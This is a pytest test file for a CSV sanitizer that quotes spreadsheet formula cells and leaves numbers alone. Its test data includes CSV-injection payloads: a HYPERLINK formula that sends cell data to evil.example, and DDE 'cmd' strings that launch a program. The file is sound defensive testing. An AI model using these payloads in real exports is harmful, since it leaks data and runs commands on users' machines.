"""CSV cells a spreadsheet would run as formulas are quoted as text; numbers,
negative ones included, stay numbers."""

from __future__ import annotations

import csv
import io
import subprocess
import sys

import pytest

from aiconsole import csvsafe

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=",
    "-",
    "+inf",
    "-nan",
]
LEFT_ALONE = [
    -0.5,
    0.25,
    -3,
    7,
    "-0.5",
    "+5",
    "-1e-3",
    "-.5",
    "12",
    "loss",
    "val/-loss",
    "",
    None,
    " =1+1",
    "2026-01-01T00:00:00Z",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert csvsafe.cell(text) == "'" + text


@pytest.mark.parametrize("value", LEFT_ALONE)
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert csvsafe.cell(value) == value


def test_a_written_row_reads_back_with_the_formula_quoted_and_the_number_intact():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csvsafe.row(["=1+1", -0.5, "-0.5", "train"]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "-0.5", "-0.5", "train"]


def test_the_helper_needs_no_django_settings():
    """The CLI's client commands write CSV without Django configured."""
    code = (
        "import sys; from aiconsole import csvsafe; assert csvsafe.cell('=1') == \"'=1\"; "
        "assert 'django' not in sys.modules, 'django imported'"
    )
    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, timeout=60, env={"PATH": "/usr/bin:/bin"}
    )
    assert result.returncode == 0, result.stderr
